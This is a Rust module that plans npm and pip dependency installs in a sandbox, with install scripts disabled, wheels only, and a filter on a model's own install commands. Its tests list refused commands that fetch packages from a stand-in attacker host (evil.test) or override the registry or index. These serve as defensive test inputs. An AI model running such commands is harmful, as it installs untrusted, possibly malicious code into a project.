//! The install phase: a project's dependencies installed in the jail from its manifest and
//! lockfile, whenever they changed (and on a fresh working directory: a run resumed on another
//! worker, a preview), before any command runs.
//!
//! - **npm** (`package.json`): `npm ci` from `package-lock.json`, or `npm install` when there
//!   is no lockfile yet, when it is out of sync with the manifest, or to add packages; always
//!   with lifecycle scripts off (`--ignore-scripts`), then `npm rebuild` with scripts for the
//!   packages on the configured allowlist only.
//! - **pip** (`requirements.txt`): a virtual environment in `.venv`, then `pip install` with
//!   binary wheels only (`--only-binary=:all:`: no `setup.py` ever runs) from
//!   `requirements.lock` when it was pinned from the current `requirements.txt`, else from
//!   `requirements.txt`, after which the lock is written again from `pip freeze`.
//!
//! Lockfiles are project files (checkpointed, shown to the model, exported); `node_modules/`
//! and `.venv/` never are (the workspace's ignore rules). A marker inside each tree records
//! what it was installed from, so an unchanged project installs nothing.
//!
//! ```
//! use samokoder_core::install::{self, Wanted};
//!
//! let dir = tempfile::tempdir().unwrap();
//! std::fs::write(dir.path().join("package.json"), r#"{"name": "app"}"#).unwrap();
//! let steps = install::plan(dir.path(), &Wanted::default()).unwrap();
//! assert_eq!(steps[0].argv[..2], ["npm", "install"]);
//! ```

use std::io;
use std::path::Path;

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

/// A package ecosystem with a manifest in the project's root.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Ecosystem {
    /// `package.json`, `package-lock.json`, `node_modules/`.
    Npm,
    /// `requirements.txt`, `requirements.lock`, `.venv/`.
    Pip,
}

impl Ecosystem {
    /// Its manifest.
    pub fn manifest(self) -> &'static str {
        match self {
            Ecosystem::Npm => "package.json",
            Ecosystem::Pip => "requirements.txt",
        }
    }

    /// Its lockfile.
    pub fn lockfile(self) -> &'static str {
        match self {
            Ecosystem::Npm => "package-lock.json",
            Ecosystem::Pip => "requirements.lock",
        }
    }

    /// Where what it installed records what it was installed from.
    fn marker(self) -> &'static str {
        match self {
            Ecosystem::Npm => "node_modules/.samokoder-install",
            Ecosystem::Pip => ".venv/.samokoder-install",
        }
    }
}

/// Packages to add besides what the manifests list (the architect's dependencies, a
/// developer's `npm install x`), and packages whose install scripts may run.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Wanted {
    /// npm packages to add (`name` or `name@range`), and whether as development
    /// dependencies.
    pub npm: Vec<(String, bool)>,
    /// pip requirements to add (`name`, `name==1.2`, `name[extra]>=1`).
    pub pip: Vec<String>,
    /// npm packages whose lifecycle scripts may run (`npm rebuild` after the install).
    pub npm_scripts_allowed: Vec<String>,
}

/// One command of the install phase.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InstallStep {
    /// Which ecosystem.
    pub ecosystem: Ecosystem,
    /// What to run, from the project root.
    pub argv: Vec<String>,
    /// Why, for the run's events.
    pub purpose: String,
    /// What to run instead when it fails.
    pub fallback: Option<Fallback>,
    /// What to do after it succeeded.
    pub then: After,
}

/// A step's second try.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Fallback {
    /// What to run.
    pub argv: Vec<String>,
    /// When.
    pub when: FallbackWhen,
}

/// When a step's fallback runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FallbackWhen {
    /// The step failed because the lockfile does not match the manifest
    /// ([`lockfile_out_of_date`]).
    LockfileOutOfDate,
    /// The step failed in any way.
    Failed,
}

impl Fallback {
    /// Whether it should run after a failure with this output.
    pub fn applies(&self, output: &str) -> bool {
        match self.when {
            FallbackWhen::Failed => true,
            FallbackWhen::LockfileOutOfDate => lockfile_out_of_date(output),
        }
    }
}

/// Fetches the pinned wheels into the wheelhouse (the package cache's, `PIP_FIND_LINKS`) and
/// installs from it, or installs from the index when there is no wheelhouse.
const PIP_FETCH_SCRIPT: &str = r#"set -e
flags="--only-binary=:all: --disable-pip-version-check --no-input --progress-bar=off"
if [ -n "$PIP_FIND_LINKS" ]; then
  .venv/bin/python -m pip download $flags --dest "$PIP_FIND_LINKS" -r requirements.lock
  exec .venv/bin/python -m pip install --no-index $flags -r requirements.lock
fi
exec .venv/bin/python -m pip install $flags -r requirements.lock"#;

/// What follows a successful step.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum After {
    /// Nothing: another step follows.
    Nothing,
    /// Record the marker of this ecosystem (the install is complete).
    Mark,
    /// Write `requirements.lock` from the step's output (`pip freeze`), then record the
    /// marker.
    WritePipLock,
}

const NPM_FLAGS: &[&str] = &[
    "--ignore-scripts",
    "--no-audit",
    "--no-fund",
    "--prefer-offline",
    "--loglevel=warn",
];
const PIP_FLAGS: &[&str] = &[
    "--only-binary=:all:",
    "--disable-pip-version-check",
    "--no-input",
    "--progress-bar=off",
];
const VENV_PYTHON: &str = ".venv/bin/python";

fn strings(items: &[&str]) -> Vec<String> {
    items.iter().map(|s| (*s).to_owned()).collect()
}

fn read_optional(path: &Path) -> io::Result<Option<Vec<u8>>> {
    match std::fs::read(path) {
        Ok(bytes) => Ok(Some(bytes)),
        Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(None),
        Err(e) => Err(e),
    }
}

fn sha256_hex(parts: &[&[u8]]) -> String {
    let mut hasher = Sha256::new();
    for part in parts {
        hasher.update((part.len() as u64).to_le_bytes());
        hasher.update(part);
    }
    hex::encode(hasher.finalize())
}

/// What the install of `ecosystem` in `dir` would be made from now: the marker's content.
fn fingerprint(dir: &Path, ecosystem: Ecosystem) -> io::Result<String> {
    let manifest = read_optional(&dir.join(ecosystem.manifest()))?.unwrap_or_default();
    let lock = read_optional(&dir.join(ecosystem.lockfile()))?.unwrap_or_default();
    Ok(sha256_hex(&[&manifest, &lock]))
}

fn installed_from(dir: &Path, ecosystem: Ecosystem) -> io::Result<Option<String>> {
    Ok(read_optional(&dir.join(ecosystem.marker()))?
        .map(|b| String::from_utf8_lossy(&b).trim().to_owned()))
}

/// Records that `ecosystem`'s tree in `dir` holds what its manifest and lockfile say now.
pub fn mark_installed(dir: &Path, ecosystem: Ecosystem) -> io::Result<()> {
    let marker = dir.join(ecosystem.marker());
    if let Some(parent) = marker.parent() {
        std::fs::create_dir_all(parent)?;
    }
    std::fs::write(marker, fingerprint(dir, ecosystem)?)
}

/// The names npm's manifest already lists (dependencies of every kind).
fn npm_listed(manifest: &[u8]) -> Vec<String> {
    let Ok(json) = serde_json::from_slice::<serde_json::Value>(manifest) else {
        return Vec::new();
    };
    [
        "dependencies",
        "devDependencies",
        "optionalDependencies",
        "peerDependencies",
    ]
    .iter()
    .filter_map(|k| json.get(*k)?.as_object())
    .flat_map(|deps| deps.keys().cloned())
    .collect()
}

/// The npm package name of `spec` (`@scope/name@^1` → `@scope/name`).
fn npm_name(spec: &str) -> &str {
    let search_from = usize::from(spec.starts_with('@'));
    match spec[search_from..].find('@') {
        Some(at) => &spec[..search_from + at],
        None => spec,
    }
}

/// The normalised project name of a pip requirement (`Flask[async]>=2` → `flask`).
pub fn pip_name(requirement: &str) -> String {
    requirement
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '_' || c == '.'))
        .next()
        .unwrap_or_default()
        .to_ascii_lowercase()
        .replace(['_', '.'], "-")
}

/// The project names `requirements.txt` lists (options such as `-r other.txt` name none).
fn pip_listed(manifest: &str) -> Vec<String> {
    manifest
        .lines()
        .map(|l| pip_name(l.split('#').next().unwrap_or_default().trim()))
        // A project name starts with a letter or digit; an option (`-r`, `--index-url`) or a
        // blank line names nothing.
        .filter(|name| name.starts_with(|c: char| c.is_ascii_alphanumeric()))
        .collect()
}

/// The install steps `dir` needs before a command runs there: none when every tree is in
/// step with its manifest and lockfile and `wanted` adds nothing new. Blocking (reads files).
pub fn plan(dir: &Path, wanted: &Wanted) -> io::Result<Vec<InstallStep>> {
    let mut steps = Vec::new();
    if let Some(manifest) = read_optional(&dir.join(Ecosystem::Npm.manifest()))? {
        plan_npm(dir, &manifest, wanted, &mut steps)?;
    }
    if let Some(manifest) = read_optional(&dir.join(Ecosystem::Pip.manifest()))? {
        plan_pip(dir, &String::from_utf8_lossy(&manifest), wanted, &mut steps)?;
    }
    Ok(steps)
}

fn plan_npm(
    dir: &Path,
    manifest: &[u8],
    wanted: &Wanted,
    steps: &mut Vec<InstallStep>,
) -> io::Result<()> {
    let listed = npm_listed(manifest);
    let (dev, prod): (Vec<_>, Vec<_>) = wanted
        .npm
        .iter()
        .filter(|(spec, _)| !listed.iter().any(|l| l == npm_name(spec)))
        .partition(|(_, dev)| *dev);
    let current = fingerprint(dir, Ecosystem::Npm)?;
    if prod.is_empty() && dev.is_empty() && installed_from(dir, Ecosystem::Npm)? == Some(current) {
        return Ok(());
    }
    let install = |extra: &[String], save_dev: bool| {
        let mut argv = strings(&["npm", "install"]);
        argv.extend(strings(NPM_FLAGS));
        argv.push("--omit-lockfile-registry-resolved".into());
        if save_dev {
            argv.push("--save-dev".into());
        }
        argv.extend(extra.iter().cloned());
        argv
    };
    let names = |set: &[&(String, bool)]| set.iter().map(|(s, _)| s.clone()).collect::<Vec<_>>();
    let has_lock = dir.join(Ecosystem::Npm.lockfile()).is_file();
    let mut ours = Vec::new();
    if has_lock {
        let mut ci = strings(&["npm", "ci"]);
        ci.extend(strings(NPM_FLAGS));
        ours.push(InstallStep {
            ecosystem: Ecosystem::Npm,
            argv: ci,
            purpose: "install the dependencies from package-lock.json".into(),
            fallback: Some(Fallback {
                argv: install(&[], false),
                when: FallbackWhen::LockfileOutOfDate,
            }),
            then: After::Nothing,
        });
    } else {
        ours.push(InstallStep {
            ecosystem: Ecosystem::Npm,
            argv: install(&[], false),
            purpose: "install the dependencies of package.json and write package-lock.json".into(),
            fallback: None,
            then: After::Nothing,
        });
    }
    for (set, save_dev) in [(&prod, false), (&dev, true)] {
        if !set.is_empty() {
            let added = names(set);
            ours.push(InstallStep {
                ecosystem: Ecosystem::Npm,
                argv: install(&added, save_dev),
                purpose: format!("add {}", added.join(", ")),
                fallback: None,
                then: After::Nothing,
            });
        }
    }
    let scripted: Vec<String> = wanted
        .npm_scripts_allowed
        .iter()
        .filter(|name| {
            listed.iter().any(|l| l == *name)
                || wanted
                    .npm
                    .iter()
                    .any(|(spec, _)| npm_name(spec) == name.as_str())
        })
        .cloned()
        .collect();
    if !scripted.is_empty() {
        let mut rebuild = strings(&["npm", "rebuild", "--ignore-scripts=false", "--no-audit"]);
        rebuild.extend(scripted.iter().cloned());
        ours.push(InstallStep {
            ecosystem: Ecosystem::Npm,
            argv: rebuild,
            purpose: format!(
                "run the install scripts of {} (allowed)",
                scripted.join(", ")
            ),
            fallback: None,
            then: After::Nothing,
        });
    }
    if let Some(last) = ours.last_mut() {
        last.then = After::Mark;
    }
    steps.extend(ours);
    Ok(())
}

/// The first line of a `requirements.lock`: which `requirements.txt` it pins.
fn lock_header(manifest: &str) -> String {
    format!(
        "# samokoder: every package installed from requirements.txt (sha256 {}), pinned by the install phase.",
        sha256_plain(manifest.as_bytes())
    )
}

fn sha256_plain(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

/// `requirements.lock`'s content from `pip freeze` output, for `manifest`.
pub fn pip_lock(manifest: &str, freeze: &str) -> String {
    let mut lock = lock_header(manifest);
    lock.push_str("\n# Install exactly these: pip install -r requirements.lock\n");
    for line in freeze.lines().map(str::trim).filter(|l| !l.is_empty()) {
        lock.push_str(line);
        lock.push('\n');
    }
    lock
}

/// `requirements.txt` with `added` requirements appended (those it does not list yet).
pub fn pip_manifest_with(manifest: &str, added: &[String]) -> String {
    let listed = pip_listed(manifest);
    let mut out = manifest.to_owned();
    for requirement in added {
        if !listed.contains(&pip_name(requirement)) {
            if !out.is_empty() && !out.ends_with('\n') {
                out.push('\n');
            }
            out.push_str(requirement);
            out.push('\n');
        }
    }
    out
}

fn plan_pip(
    dir: &Path,
    manifest: &str,
    wanted: &Wanted,
    steps: &mut Vec<InstallStep>,
) -> io::Result<()> {
    let listed = pip_listed(manifest);
    let adds = wanted.pip.iter().any(|r| !listed.contains(&pip_name(r)));
    if adds {
        // The requirements are a file of the project: the caller appends them
        // (`pip_manifest_with`) and plans again.
        return Err(io::Error::other(
            "pip requirements to add: write them into requirements.txt first",
        ));
    }
    let current = fingerprint(dir, Ecosystem::Pip)?;
    if installed_from(dir, Ecosystem::Pip)? == Some(current) {
        return Ok(());
    }
    if !dir.join(VENV_PYTHON).exists() {
        steps.push(InstallStep {
            ecosystem: Ecosystem::Pip,
            argv: strings(&["python3", "-m", "venv", ".venv"]),
            purpose: "create the project's virtual environment".into(),
            fallback: None,
            then: After::Nothing,
        });
    }
    let lock = read_optional(&dir.join(Ecosystem::Pip.lockfile()))?
        .map(|b| String::from_utf8_lossy(&b).into_owned());
    let pinned = lock
        .as_deref()
        .is_some_and(|l| l.lines().next() == Some(lock_header(manifest).as_str()));
    let pip = |args: &[&str]| {
        let mut argv = strings(&[VENV_PYTHON, "-m", "pip"]);
        argv.extend(strings(args));
        argv
    };
    if pinned {
        // Offline first, from the wheels the package cache keeps of earlier installs; only
        // what is missing there is fetched.
        let mut argv = pip(&["install", "--no-index"]);
        argv.extend(strings(PIP_FLAGS));
        argv.extend(strings(&["-r", "requirements.lock"]));
        steps.push(InstallStep {
            ecosystem: Ecosystem::Pip,
            argv,
            purpose: "install the dependencies from requirements.lock".into(),
            fallback: Some(Fallback {
                argv: strings(&["sh", "-c", PIP_FETCH_SCRIPT]),
                when: FallbackWhen::Failed,
            }),
            then: After::Mark,
        });
    } else {
        let mut argv = pip(&["install"]);
        argv.extend(strings(PIP_FLAGS));
        argv.extend(strings(&["-r", "requirements.txt"]));
        steps.push(InstallStep {
            ecosystem: Ecosystem::Pip,
            argv,
            purpose: "install the dependencies of requirements.txt".into(),
            fallback: None,
            then: After::Nothing,
        });
        steps.push(InstallStep {
            ecosystem: Ecosystem::Pip,
            argv: pip(&[
                "freeze",
                "--disable-pip-version-check",
                "--exclude-editable",
            ]),
            purpose: "pin what was installed in requirements.lock".into(),
            fallback: None,
            then: After::WritePipLock,
        });
    }
    Ok(())
}

/// Whether a failed `npm ci` failed because the lockfile does not match the manifest (then
/// `npm install` brings it up to date).
pub fn lockfile_out_of_date(output: &str) -> bool {
    output.contains("in sync") || output.contains("npm ci` can only install")
}

/// A model's install command, as the install phase runs it instead: `npm install|i|add
/// [-D|--save-dev] pkg...`, `pip install pkg...` (or `python3 -m pip install`). Registry
/// packages only: a URL, a path, a git or tarball spec is no request (`None`), and neither is
/// an install of nothing (a bare `npm install` is the install phase itself).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum InstallRequest {
    /// npm packages, and whether as development dependencies.
    Npm(Vec<String>, bool),
    /// pip requirements.
    Pip(Vec<String>),
}

/// Reads `argv` as an install request.
pub fn install_request(argv: &[String]) -> Option<InstallRequest> {
    let args: Vec<&str> = argv.iter().map(String::as_str).collect();
    match args.as_slice() {
        ["npm", "install" | "i" | "add", rest @ ..] => {
            // Where packages are saved, nothing that changes where they come from.
            let harmless = |a: &str| {
                matches!(
                    a,
                    "-D" | "--save-dev" | "-S" | "--save" | "-E" | "--save-exact" | "--save-prod"
                )
            };
            if rest.iter().any(|a| a.starts_with('-') && !harmless(a)) {
                return None;
            }
            let dev = rest.iter().any(|a| matches!(*a, "-D" | "--save-dev"));
            let packages: Vec<String> = rest
                .iter()
                .filter(|a| !a.starts_with('-'))
                .map(|a| (*a).to_owned())
                .collect();
            (!packages.is_empty() && packages.iter().all(|p| valid_npm_spec(p)))
                .then_some(InstallRequest::Npm(packages, dev))
        }
        [pip, "install", rest @ ..] | ["python3" | "python", "-m", pip, "install", rest @ ..]
            if pip.starts_with("pip") =>
        {
            // Requirement files, indexes, paths and editables are not registry packages.
            if rest
                .iter()
                .any(|a| a.starts_with('-') && !matches!(*a, "-U" | "--upgrade" | "-q" | "--quiet"))
            {
                return None;
            }
            let packages: Vec<String> = rest
                .iter()
                .filter(|a| !a.starts_with('-'))
                .map(|a| (*a).to_owned())
                .collect();
            (!packages.is_empty() && packages.iter().all(|p| valid_pip_requirement(p)))
                .then_some(InstallRequest::Pip(packages))
        }
        _ => None,
    }
}

/// `name`, `@scope/name`, optionally `@range`: lower-case registry names only.
pub fn valid_npm_spec(spec: &str) -> bool {
    let name = npm_name(spec);
    let range = &spec[name.len()..];
    let name_ok = |part: &str| {
        !part.is_empty()
            && part.len() <= 214
            && !part.starts_with('.')
            && part
                .bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b"-._~".contains(&b))
    };
    let name_valid = match name.strip_prefix('@') {
        Some(scoped) => scoped
            .split_once('/')
            .is_some_and(|(scope, pkg)| name_ok(scope) && name_ok(pkg)),
        None => name_ok(name),
    };
    let range_valid = range.is_empty()
        || range.strip_prefix('@').is_some_and(|r| {
            !r.is_empty()
                && !r.contains(':')
                && !r.contains('/')
                && r.bytes().all(|b| b.is_ascii_graphic())
        });
    name_valid && range_valid
}

/// A PEP 508 name with optional extras and version constraints; no URL or path.
pub fn valid_pip_requirement(requirement: &str) -> bool {
    let name = requirement
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '_' || c == '.'))
        .next()
        .unwrap_or_default();
    let rest = &requirement[name.len()..];
    !name.is_empty()
        && name
            .chars()
            .next()
            .is_some_and(|c| c.is_ascii_alphanumeric())
        && !requirement.contains("://")
        && !requirement.contains('/')
        && !requirement.contains('@')
        && rest
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"[],.<>=!~*+-_ ".contains(&b))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn dir_with(files: &[(&str, &str)]) -> tempfile::TempDir {
        let dir = tempfile::tempdir().unwrap();
        for (path, content) in files {
            let path = dir.path().join(path);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, content).unwrap();
        }
        dir
    }

    fn argvs(steps: &[InstallStep]) -> Vec<String> {
        steps.iter().map(|s| s.argv.join(" ")).collect()
    }

    #[test]
    fn npm_installs_once_from_the_lockfile_until_either_changes() {
        let dir = dir_with(&[
            ("package.json", r#"{"dependencies": {"a": "1"}}"#),
            ("package-lock.json", "{}"),
        ]);
        let steps = plan(dir.path(), &Wanted::default()).unwrap();
        assert_eq!(steps.len(), 1);
        assert!(
            argvs(&steps)[0].starts_with("npm ci --ignore-scripts"),
            "{steps:?}"
        );
        let fallback = steps[0].fallback.as_ref().unwrap();
        assert!(
            fallback
                .argv
                .join(" ")
                .starts_with("npm install --ignore-scripts")
        );
        assert!(!fallback.applies("npm error 404 Not Found - GET zod"));
        assert!(fallback.applies("`npm ci` can only install packages when your package.json and package-lock.json are in sync"));
        assert_eq!(steps[0].then, After::Mark);
        mark_installed(dir.path(), Ecosystem::Npm).unwrap();
        assert!(
            plan(dir.path(), &Wanted::default()).unwrap().is_empty(),
            "nothing changed"
        );
        std::fs::write(dir.path().join("package-lock.json"), "{\"v\": 2}").unwrap();
        assert_eq!(
            plan(dir.path(), &Wanted::default()).unwrap().len(),
            1,
            "the lock changed"
        );
        mark_installed(dir.path(), Ecosystem::Npm).unwrap();
        std::fs::remove_dir_all(dir.path().join("node_modules")).unwrap();
        assert_eq!(
            plan(dir.path(), &Wanted::default()).unwrap().len(),
            1,
            "a fresh directory installs"
        );
    }

    #[test]
    fn npm_without_a_lockfile_installs_and_writes_one() {
        let dir = dir_with(&[("package.json", "{}")]);
        let steps = plan(dir.path(), &Wanted::default()).unwrap();
        assert_eq!(steps.len(), 1);
        let argv = &steps[0].argv;
        assert_eq!(argv[..2], ["npm", "install"]);
        assert!(argv.contains(&"--ignore-scripts".to_owned()));
        assert!(argv.contains(&"--omit-lockfile-registry-resolved".to_owned()));
    }

    #[test]
    fn wanted_packages_are_added_unless_listed_and_allowed_scripts_run_last() {
        let dir = dir_with(&[(
            "package.json",
            r#"{"dependencies": {"react": "19"}, "devDependencies": {"vite": "7"}}"#,
        )]);
        mark_installed(dir.path(), Ecosystem::Npm).unwrap();
        let wanted = Wanted {
            npm: vec![
                ("react@19".into(), false),
                ("zod@^4".into(), false),
                ("@types/node".into(), true),
                ("vite".into(), true),
            ],
            pip: vec![],
            npm_scripts_allowed: vec!["zod".into(), "left-pad".into()],
        };
        let steps = plan(dir.path(), &wanted).unwrap();
        let all = argvs(&steps);
        assert_eq!(all.len(), 4, "{all:?}");
        assert!(all[1].ends_with("zod@^4"), "{all:?}");
        assert!(all[2].ends_with("--save-dev @types/node"), "{all:?}");
        assert_eq!(all[3], "npm rebuild --ignore-scripts=false --no-audit zod");
        assert_eq!(steps[3].then, After::Mark);
        assert!(steps[..3].iter().all(|s| s.then == After::Nothing));
    }

    #[test]
    fn pip_creates_the_venv_installs_and_pins() {
        let dir = dir_with(&[("requirements.txt", "fastapi==0.116.1\n")]);
        let steps = plan(dir.path(), &Wanted::default()).unwrap();
        let all = argvs(&steps);
        assert_eq!(all[0], "python3 -m venv .venv");
        assert!(
            all[1].starts_with(".venv/bin/python -m pip install --only-binary=:all:"),
            "{all:?}"
        );
        assert!(all[1].ends_with("-r requirements.txt"));
        assert_eq!(steps[2].then, After::WritePipLock);
        let lock = pip_lock(
            "fastapi==0.116.1\n",
            "fastapi==0.116.1\n\nstarlette==0.47.3\n",
        );
        assert!(
            lock.ends_with("requirements.lock\nfastapi==0.116.1\nstarlette==0.47.3\n"),
            "{lock}"
        );
        std::fs::write(dir.path().join("requirements.lock"), &lock).unwrap();
        std::fs::create_dir_all(dir.path().join(".venv/bin")).unwrap();
        std::fs::write(dir.path().join(".venv/bin/python"), "").unwrap();
        let steps = plan(dir.path(), &Wanted::default()).unwrap();
        assert_eq!(steps.len(), 1, "{steps:?}");
        assert!(steps[0].argv.join(" ").ends_with("-r requirements.lock"));
        assert!(
            steps[0].argv.contains(&"--no-index".to_owned()),
            "offline first"
        );
        let fallback = steps[0].fallback.as_ref().unwrap();
        assert!(fallback.applies("anything"));
        assert!(fallback.argv[2].contains("pip download"));
        mark_installed(dir.path(), Ecosystem::Pip).unwrap();
        assert!(plan(dir.path(), &Wanted::default()).unwrap().is_empty());
        // Another requirements.txt: the lock no longer pins it.
        std::fs::write(
            dir.path().join("requirements.txt"),
            "fastapi==0.116.1\nhttpx\n",
        )
        .unwrap();
        let steps = plan(dir.path(), &Wanted::default()).unwrap();
        assert!(
            steps[0].argv.join(" ").ends_with("-r requirements.txt"),
            "{steps:?}"
        );
    }

    #[test]
    fn an_unreadable_manifest_is_an_error_not_a_missing_one() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir(dir.path().join("package.json")).unwrap();
        assert!(plan(dir.path(), &Wanted::default()).is_err());
        assert_eq!(
            pip_listed("# comment\n\n-r base.txt\n--index-url x\nFastAPI==1 # web\n"),
            ["fastapi"]
        );
    }

    #[test]
    fn pip_requirements_are_appended_to_the_manifest() {
        assert_eq!(
            pip_manifest_with(
                "fastapi==1\n# tests\npytest",
                &["Pytest".into(), "httpx>=0.2".into()]
            ),
            "fastapi==1\n# tests\npytest\nhttpx>=0.2\n"
        );
        let dir = dir_with(&[("requirements.txt", "fastapi\n")]);
        let wanted = Wanted {
            pip: vec!["httpx".into()],
            ..Wanted::default()
        };
        assert!(
            plan(dir.path(), &wanted).is_err(),
            "the caller writes them first"
        );
        assert_eq!(pip_name("Flask_Login[extra]>=2"), "flask-login");
        assert_eq!(pip_manifest_with("", &["httpx".into()]), "httpx\n");
        assert_eq!(pip_manifest_with("a\n", &["b".into()]), "a\nb\n");
    }

    #[test]
    fn model_install_commands_become_requests_for_registry_packages_only() {
        let argv = |s: &str| s.split(' ').map(str::to_owned).collect::<Vec<_>>();
        assert_eq!(
            install_request(&argv("npm install zod @types/node@^20")),
            Some(InstallRequest::Npm(
                vec!["zod".into(), "@types/node@^20".into()],
                false
            ))
        );
        assert_eq!(
            install_request(&argv("npm i -D vitest")),
            Some(InstallRequest::Npm(vec!["vitest".into()], true))
        );
        assert_eq!(
            install_request(&argv("python3 -m pip install fastapi==0.116.1 httpx")),
            Some(InstallRequest::Pip(vec![
                "fastapi==0.116.1".into(),
                "httpx".into()
            ]))
        );
        assert_eq!(
            install_request(&argv("pip3 install Flask[async]>=2")),
            Some(InstallRequest::Pip(vec!["Flask[async]>=2".into()]))
        );
        for refused in [
            "npm install",
            "npm install https://evil.test/x.tgz",
            "npm install git+ssh://git@host/x.git",
            "npm install ./local",
            "npm install file:../x",
            "npm install github:user/repo",
            "npm install Express",
            "pip install -r requirements.txt",
            "pip install --index-url https://evil.test/simple x",
            "pip install -e .",
            "npm install --registry=https://evil.test/ x",
            "pip install https://evil.test/x.whl",
            "pip install ./pkg",
            "pip install pkg@https://evil.test/x",
            "npm test",
            "apt-get install curl",
            "python3 -m venv install",
        ] {
            assert_eq!(install_request(&argv(refused)), None, "{refused}");
        }
        assert!(lockfile_out_of_date(
            "npm error `npm ci` can only install packages when your package.json and package-lock.json are in sync"
        ));
        assert!(lockfile_out_of_date(
            "npm error `npm ci` can only install packages"
        ));
        assert!(lockfile_out_of_date(
            "lock file's x@1 does not satisfy: not in sync"
        ));
        assert!(!lockfile_out_of_date("npm error 404 Not Found"));
    }
}
